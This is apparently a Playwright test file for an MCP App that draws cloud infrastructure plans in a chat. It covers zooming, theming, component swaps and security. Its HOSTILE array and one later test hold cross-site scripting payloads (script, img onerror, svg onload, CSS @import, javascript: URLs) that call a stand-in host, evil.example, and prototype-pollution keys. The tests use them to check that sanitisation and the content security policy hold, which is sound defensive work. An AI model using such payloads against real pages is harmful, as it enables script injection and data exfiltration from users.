/** The picture of a plan in a chat (MCP App), in a real browser, over a real server. The extension has to be built. */
import assert from "node:assert/strict";
import type { Browser } from "playwright-core";
import type { PlanInput } from "../../../src/contract/plan.ts";
import { createEngine } from "../../../src/engine/engine.ts";
import { launchBrowser } from "../../support/browser.ts";
import { type ChatHost, openChat, type Shown } from "../../support/chatHost.ts";
import { eventually } from "../../support/clock.ts";
import { type McpProcess, startMcp } from "../../support/mcp.ts";

const engine = createEngine();

/** What nobody should write into a plan: scripts, pictures and links of elsewhere, names of members of objects. */
const HOSTILE = [
  "<script>fetch('https://evil.example/1')</script>",
  '<img src="https://evil.example/2" onerror="fetch(\'https://evil.example/3\')">',
  "</style><style>@import url(https://evil.example/4);</style>",
  "<svg/onload=fetch('https://evil.example/5')>",
  "javascript:fetch('https://evil.example/6')",
  "url(https://evil.example/7)",
  "__proto__",
  "constructor",
  "\u202e\u0000]]><!--",
  "a".repeat(5_000),
];

describe("A plan in a chat", () => {
  let browser: Browser;
  let server: McpProcess;

  before(async () => {
    [browser, server] = await Promise.all([launchBrowser(), startMcp()]);
    await server.client.listTools();
  });
  after(async () => {
    await server[Symbol.asyncDispose]();
    await browser.close();
  });

  const plan = engine.resolve("aws", {
    candidates: ["aws:sqs/queue", "aws:lambda/function", "aws:rds/dbinstance"].map((type) => ({
      type_id: `${type}@1`,
    })),
  });
  const drawn = { tool: "render_diagram", input: { plan, title: "Orders" } } as const;
  const node = (chat: ChatHost, name: string) => chat.app.locator(`.picture svg [data-name="${name}"]`);

  /** Shows something, uses it, and holds what left the page against nothing. */
  async function inChat(shown: Shown, use: (chat: ChatHost) => Promise<void>): Promise<void> {
    await using chat = await openChat(browser, server, shown);
    await use(chat);
    assert.deepEqual(chat.strays, []);
    assert.deepEqual(chat.errors, []);
  }

  it("is the panel's own picture: zoomed, selected in and inspected, in both views, in a look of the chat's", async () => {
    await inChat(drawn, async (chat) => {
      await node(chat, "lambda-function").waitFor();
      await eventually(async () =>
        assert.equal(await chat.app.locator(".diagram-title").textContent(), "Orders"),
      );
      const pane = chat.app.locator(".pane");
      const before = await pane.getAttribute("style");
      await chat.app.locator(".viewport").press("+");
      await chat.app.locator(`.pane:not([style="${before}"])`).waitFor();
      await chat.app.locator(".viewport").press("0");
      await node(chat, "sqs-queue").click();
      await chat.app.getByRole("region", { name: "Component sqs-queue" }).waitFor();
      await chat.app.getByRole("tab", { name: /^Findings/ }).click();
      await chat.app.locator(".finding", { hasText: "always fails" }).first().waitFor();
      await chat.app.getByRole("button", { name: "Resources" }).click();
      await node(chat, plan.auto_completed[0]?.name ?? "").waitFor();
      assert.equal(await chat.app.getByRole("button", { name: "Mermaid" }).count(), 0);
      const color = () => chat.app.locator("body").evaluate((body) => getComputedStyle(body).backgroundColor);
      const light = await color();
      await chat.setContext({ theme: "dark" });
      await chat.app.locator("body.vscode-dark").waitFor();
      await eventually(async () => assert.notEqual(await color(), light));
      const variables = { "--color-background-primary": "rgb(1, 2, 3)" };
      await chat.setContext({ theme: "dark", styles: { variables } as never });
      await chat.app.locator(":root[style*='rgb(1, 2, 3)']").waitFor({ state: "attached" });
      await eventually(async () => assert.equal(await color(), "rgb(1, 2, 3)"));
    });
  });

  it("is composed anew with another type in a component's place, which the model hears of, and back", async () => {
    const candidates = plan.components.filter(({ added_by }) => added_by === undefined);
    await inChat({ tool: "provider_resolve_composition", input: { candidates } }, async (chat) => {
      await node(chat, "rds-database-instance").click();
      const swaps = chat.app.getByRole("region", { name: "Instead of it" });
      await swaps
        .getByRole("button", { name: /Aurora/ })
        .first()
        .click();
      await node(chat, "rds-database-instance").waitFor({ state: "detached" });
      assert.ok(chat.calls.includes("provider_resolve_composition"));
      assert.match(chat.told[0] ?? "", /put aws:rds\/\w+@1 in the place of aws:rds\/dbinstance@1/);
      await chat.app.getByRole("button", { name: "Undo the last swap" }).click();
      await node(chat, "rds-database-instance").waitFor();
      assert.match(chat.told[1] ?? "", /undid the last swap/);
    });
  });

  it("is shown from texts alone, and a failure in the tool's words", async () => {
    const json = [
      { type: "text" as const, text: "A plan." },
      { type: "text" as const, text: JSON.stringify({ plan }) },
    ];
    await inChat(
      { tool: "provider_resolve_composition", input: {}, result: { content: json } },
      async (chat) => {
        await node(chat, "sqs-queue").waitFor();
      },
    );
    const failed = { isError: true, content: [{ type: "text" as const, text: "There is no such cloud." }] };
    await inChat({ ...drawn, result: failed }, async (chat) => {
      await chat.app.getByText("There is no such cloud.").waitFor();
    });
  });

  it("lets nothing out, whatever stands in it: no script runs, nothing is asked for, links are the chat's to open", async () => {
    const hostile: PlanInput = {
      components: HOSTILE.map((text, index) => ({
        type_id: index % 2 === 0 ? "aws:s3/bucket@1" : text,
        name: text,
        title: text,
        display_name: text,
        group: text,
        parent: HOSTILE[(index + 1) % HOSTILE.length] ?? "",
        desired_input: { [text]: text },
      })),
      relations: HOSTILE.map((text, index) => ({ from: text, to: HOSTILE[index - 1] ?? text, kind: text })),
      deploy_order: [...HOSTILE],
      warnings: HOSTILE.map((text) => ({
        rules: [text],
        message: text,
        components: [text],
        link: "https://example.com/why",
      })),
    };
    for (const view of ["architecture", "resources"])
      await inChat(
        { tool: "render_diagram", input: { plan: hostile, title: HOSTILE[0], view } },
        async (chat) => {
          await chat.app.locator(".picture svg, .diagram .notice").first().waitFor();
          await chat.app.getByRole("button", { name: "Resources" }).click();
          await chat.app.getByRole("tab", { name: /^Findings/ }).click();
          await chat.app.getByRole("tab", { name: /^Order/ }).click();
          await eventually(async () =>
            assert.equal(
              await chat.app.locator("script, img, iframe, object, embed").count(),
              1,
              "its own script",
            ),
          );
        },
      );
  });

  it("asks for nothing even where a script of somebody else's ran in it", async () => {
    await inChat(drawn, async (chat) => {
      await node(chat, "sqs-queue").waitFor();
      const ran = await chat.app.locator("body").evaluate(async (body) => {
        const inserted = body.ownerDocument.createElement("script");
        inserted.textContent = "globalThis.intruder = true";
        body.append(inserted);
        const image = new Image();
        image.src = "https://evil.example/image";
        await fetch("https://evil.example/fetch").catch(() => undefined);
        return "intruder" in globalThis;
      });
      assert.equal(ran, false);
    });
  });

  it("is one document of a bounded size, offered with both tools that have a plan and with no other", async () => {
    const { tools } = await server.client.listTools();
    const shown = tools.filter(({ _meta }) => _meta?.["ui"] !== undefined);
    assert.deepEqual(shown.map(({ name }) => name).sort(), [
      "provider_resolve_composition",
      "render_diagram",
    ]);
    const { contents } = await server.client.readResource({ uri: "ui://infra-planner/plan" });
    const [content] = contents;
    assert.ok(content && "text" in content);
    assert.equal(content.mimeType, "text/html;profile=mcp-app");
    assert.match(content.text, /default-src 'none'; script-src 'sha256-/);
    assert.ok(content.text.length < 1_100_000, `${content.text.length} characters`);
  });
});
